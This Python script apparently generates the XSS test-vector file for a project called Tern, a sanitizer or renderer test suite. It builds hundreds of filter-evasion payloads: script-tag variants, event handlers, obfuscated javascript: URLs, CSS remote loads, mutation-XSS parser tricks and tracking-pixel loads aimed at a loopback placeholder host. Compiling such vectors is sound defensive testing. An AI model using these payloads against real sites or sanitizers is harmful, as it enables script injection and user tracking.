#!/usr/bin/env python3
"""Writes SystemTests/vectors/xss-vectors.json: Tern's own XSS, mXSS and remote-load test vectors, in
the shapes the public cheat sheets and papers describe (OWASP XSS filter evasion, PortSwigger's
XSS cheat sheet, Heiderich et al. "mXSS Attacks", DOMPurify's bypass history), written here from
those patterns. {{REMOTE}} stands for a loopback HTTP server that plays every remote host; a vector
"fires" by calling alert()/confirm()/prompt()/print(), setting document.title to XSS, or
requesting anything from {{REMOTE}}."""
import json, pathlib

vectors = []


def add(category, html):
    vectors.append({"category": category, "html": html})


R = "{{REMOTE}}"

# 1. Script elements, spelled every way.
for html in [
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script src=%s/x.js></script>" % R, "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>", "<scr<script>ipt>alert(1)</script>", "<<script>alert(1)//<</script>", "<script>/*</script>*/alert(1)</script>",
    "<script type=module>alert(1)</script>", "<script>document.title='XSS'</script>", "<ScRiPt >alert(1)</sCrIpT>",
    "<script\x00>alert(1)</script>", "<script>alert`1`</script>", "<script charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</script>",
    "<script src=data:text/javascript,alert(1)></script>", "<div><script>alert(1)</script></div>", "<table><script>alert(1)</script></table>",
    "<svg><script>alert(1)</script></svg>", "<svg><script href=%s/x.js /></svg>" % R, "<math><script>alert(1)</script></math>",
]:
    add("script", html)

# 2. Event handlers on many elements.
events = ["onerror", "onload", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpageshow", "onbegin", "onscroll", "onpointerenter"]
tags = {
    "img": '<img src=x {ev}="alert(1)">', "body": '<body {ev}="alert(1)">', "svg": '<svg {ev}="alert(1)"></svg>',
    "div": '<div {ev}="alert(1)" tabindex=1 autofocus style="animation-name:x">x</div>', "input": '<input {ev}="alert(1)" autofocus>',
    "details": '<details open {ev}="alert(1)"><summary>s</summary></details>', "video": '<video src=x {ev}="alert(1)"></video>',
    "iframe": '<iframe {ev}="alert(1)"></iframe>', "a": '<a href=#x {ev}="alert(1)">x</a>', "marquee": '<marquee {ev}="alert(1)">m</marquee>',
    "style": '<style {ev}="alert(1)"></style>', "textarea": '<textarea {ev}="alert(1)" autofocus>t</textarea>',
}
for tag, template in tags.items():
    for event in events:
        add("event-handler", template.format(ev=event))
for html in [
    '<img src=x onerror=alert(1)>', '<img src=x onerror="alert(1)"', '<img src=x ONERROR=alert(1)>', '<img src=x onerror=&#97;lert(1)>',
    '<img src=x onerror\n=alert(1)>', '<img/src=x/onerror=alert(1)>', '<img src=x onerror=alert(1)//', '<img src="x" onerror="&#x61;&#x6C;&#x65;&#x72;&#x74;(1)">',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><set onbegin=alert(1) attributeName=x to=1>',
    '<body onload=alert(1)>', '<audio src=x onerror=alert(1)>', '<object data=x onerror=alert(1)>', '<select autofocus onfocus=alert(1)>',
    '<keygen autofocus onfocus=alert(1)>', '<form><button formaction=javascript:alert(1)>x</button></form>',
    '<isindex type=image src=x onerror=alert(1)>', '<xss onmouseover=alert(1) style="display:block;width:9999px;height:9999px">x</xss>',
]:
    add("event-handler", html)

# 3. URL schemes, obfuscated, in every attribute that navigates or loads.
schemes = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "java&#x09;script:alert(1)", "java&#10;script:alert(1)", "&#106;avascript:alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)", "&#0000106avascript:alert(1)", "javascript&colon;alert(1)",
    "&#14;javascript:alert(1)", "\x01javascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "jav&#x61;script:alert(1)",
    "javascript://%0Aalert(1)",
]
carriers = [
    '<a href="{u}" id=l>x</a><script>/*clicked below*/</script>', '<iframe src="{u}"></iframe>', '<form action="{u}"><input type=submit></form>',
    '<object data="{u}"></object>', '<embed src="{u}">', '<svg><a xlink:href="{u}"><text y=9>x</text></a></svg>',
    '<math href="{u}">x</math>', '<base href="{u}"><a href=x>x</a>', '<meta http-equiv=refresh content="0;url={u}">',
    '<img src="{u}">', '<table background="{u}"><tr><td>x</td></tr></table>', '<a href="{u}" target=_self>x</a>',
    '<area href="{u}">', '<link rel=import href="{u}">', '<input type=image src="{u}">',
]
for scheme in schemes:
    for carrier in carriers:
        add("url-scheme", carrier.format(u=scheme))

# 4. CSS.
for html in [
    '<div style="width:expression(alert(1))">x</div>', '<div style="behavior:url(%s/x.htc)">x</div>' % R,
    '<div style="-moz-binding:url(%s/x.xml#x)">x</div>' % R, '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="background-image:url(%s/bg.png)">x</div>' % R, '<div style="background:url(\'%s/bg.png\')">x</div>' % R,
    '<div style="background:ur\\6c(%s/bg.png)">x</div>' % R, '<div style="background:u/**/rl(%s/bg.png)">x</div>' % R,
    '<div style="list-style-image:url(%s/l.png)"><li>x</li></div>' % R, '<div style="cursor:url(%s/c.cur),auto">x</div>' % R,
    '<div style="border-image:url(%s/b.png) 30">x</div>' % R, '<div style="content:url(%s/c.png)">x</div>' % R,
    '<div style="mask:url(%s/m.svg)">x</div>' % R, '<div style="filter:url(%s/f.svg#f)">x</div>' % R,
    '<div style="background-image:image-set(\'%s/i.png\' 1x)">x</div>' % R,
    '<style>@import "%s/i.css";</style>' % R, '<style>@import url(%s/i.css);</style>' % R,
    '<style>body{background:url(%s/s.png)}</style>' % R, '<style>@font-face{font-family:x;src:url(%s/f.woff)}p{font-family:x}</style><p>x</p>' % R,
    '<style>p{color:red}</style><link rel=stylesheet href=%s/s.css>' % R, '<style>*{background:url("%s/a.png")!important}</style>' % R,
    '<style>li{list-style:url(%s/l.png)}</style><ul><li>x</li></ul>' % R, '<style>@media all{body{background:url(%s/m.png)}}</style>' % R,
    '<style>@supports (display:block){body{background:url(%s/s.png)}}</style>' % R,
    '<style>a{background:\\75\\72\\6C(%s/e.png)}</style><a>x</a>' % R, '<div style="position:fixed;top:0;left:0;width:100%%;height:100%%">overlay</div>',
    '<style>div{position:fixed;inset:0}</style><div>overlay</div>', '<style></style><script>alert(1)</script></style>',
    '<style>a{font-family:"</style><img src=x onerror=alert(1)>"}</style>', '<div style="x:\\"><img src=x onerror=alert(1)>">',
]:
    add("css", html)

# 5. Parser differentials and mutation XSS.
for html in [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<!--<img src="--><img src=x onerror=alert(1)//">', '<title><img src=x onerror=alert(1)></title>', '<textarea><img src=x onerror=alert(1)></textarea>',
    '<xmp><img src=x onerror=alert(1)></xmp>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<template><img src=x onerror=alert(1)></template>',
    '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>', '<a href="&#14;javascript:alert(1)">x</a>', '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><style><img src=x onerror=alert(1)></style></math>', '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
    '<table><td><img src=x onerror=alert(1)></table>', '<select><img src=x onerror=alert(1)></select>', '<p><svg><p><img src=x onerror=alert(1)>',
    '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>', '<noembed><img src=x onerror=alert(1)></noembed>', '<noframes><img src=x onerror=alert(1)></noframes>',
    '<plaintext><img src=x onerror=alert(1)>', '<div id="x"><a href="#" id="x">clobber</a></div>', '<form id=test><input name=attributes></form>',
    '<img src=x alt="`><img src=x onerror=alert(1)>">', '<img src="x` `<script>alert(1)</script>"` `>', '<a title="\'\'><img src=x onerror=alert(1)>">x</a>',
    '<div title="&lt;/div&gt;&lt;img src=x onerror=alert(1)&gt;">x</div>', '<style><style/><img src=x onerror=alert(1)>',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">', '<svg><desc><img src=x onerror=alert(1)></desc></svg>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>', '<svg><title><img src=x onerror=alert(1)></title></svg>',
    '<object><param name=src value=javascript:alert(1)></object>', '<embed type="image/svg+xml" src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<svg><use href="data:image/svg+xml,<svg id=x><image href=x onerror=alert(1)/></svg>#x"/></svg>', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>', '<?xml version="1.0"?><img src=x onerror=alert(1)>', '<!DOCTYPE html><html><head><script>alert(1)</script></head></html>',
    '<frameset onload=alert(1)>', '<dialog open onclose=alert(1)>d</dialog>', '<a href="https://ok.example" ping="%s/ping">x</a>' % R,
]:
    add("mxss", html)

# 6. Remote loads that run no script (privacy): blocked mode must make no request at all.
for html in [
    '<img src=%s/1.png>' % R, '<img srcset="%s/2.png 2x">' % R, '<picture><source srcset=%s/3.png><img src=x></picture>' % R,
    '<video poster=%s/4.png></video>' % R, '<video src=%s/5.mp4 autoplay></video>' % R, '<audio src=%s/6.mp3 autoplay></audio>' % R,
    '<input type=image src=%s/7.png>' % R, '<body background=%s/8.png>' % R, '<table background=%s/9.png><tr><td>x</table>' % R,
    '<td background=%s/10.png>' % R, '<img src=x lowsrc=%s/11.png>' % R, '<img dynsrc=%s/12.avi>' % R, '<bgsound src=%s/13.wav>' % R,
    '<link rel=prefetch href=%s/14>' % R, '<link rel=preload as=image href=%s/15.png>' % R, '<link rel=icon href=%s/16.ico>' % R,
    '<svg><image href=%s/17.png /></svg>' % R, '<svg><image xlink:href=%s/18.png /></svg>' % R, '<svg><use href=%s/19.svg#x /></svg>' % R,
    '<object data=%s/20.swf></object>' % R, '<embed src=%s/21.swf>' % R, '<iframe src=%s/22.html></iframe>' % R, '<frame src=%s/23.html>' % R,
    '<meta http-equiv=refresh content="0;url=%s/24">' % R, '<img src="%s/25.png" width=1 height=1>' % R,
    '<img src="%s/26.png" style="display:none">' % R, '<div style="display:none"><img src=%s/27.png></div>' % R,
    '<img src="https://t.yesware.com/t/28.gif">', '<img src="%s/29.png" loading=lazy>' % R, '<track src=%s/30.vtt>' % R,
    '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["%s/31"]}]}</script>' % R, '<portal src=%s/32></portal>' % R,
    '<a href=%s/33 ping=%s/34>x</a>' % (R, R), '<form action=%s/35><input type=submit></form>' % R,
    '<img src=%s/36.png srcset="%s/37.png 1x">' % (R, R), '<source src=%s/38.mp4>' % R, '<img src="%s/39.png" style="width:1px;height:1px">' % R,
    '<img src="  %s/40.png  ">' % R, '<img src="%s/41.png" crossorigin>' % R, '<img src="%s/42.png" referrerpolicy="unsafe-url">' % R,
]:
    add("remote", html)

out = pathlib.Path(__file__).resolve().parents[1] / "SystemTests/vectors/xss-vectors.json"
out.write_text(json.dumps(vectors, indent=1, ensure_ascii=False) + "\n")
print(len(vectors), "vectors in", out)
